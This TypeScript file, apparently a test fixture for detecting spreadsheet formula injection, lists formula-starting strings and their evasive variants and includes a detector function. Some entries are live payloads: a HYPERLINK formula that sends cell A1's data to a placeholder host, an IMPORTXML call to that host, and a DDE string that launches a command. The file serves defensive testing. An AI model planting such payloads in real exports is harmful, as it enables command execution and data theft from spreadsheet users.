/** Texts that a spreadsheet would calculate, or run, if it were let. */
export const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://kwaad.example/?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://kwaad.example","//a")',
  '+32 53 00 00 00',
  '-5',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '\tgewoon',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '   =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '"=1+1"',
  "'=1+1",
  '“=1+1”',
  '« =1+1 »',
  '`=1+1`',
  '"; =1+1',
  ' \t"\'=1+1',
];

/** What the harmless part at the start of a text leads to, read sign by sign. */
export function startsAFormula(text: string): boolean {
  if (text.startsWith("'")) return false;
  const ignored = new Set([' ', '\u00a0', '\u200b', '\ufeff', '\u202e', '"', '“', '«', '`']);
  const first = text.split('').find((sign) => !ignored.has(sign)) ?? '';
  return '=+-@＝＋－＠\t\r\n\0'.includes(first) && first !== '';
}
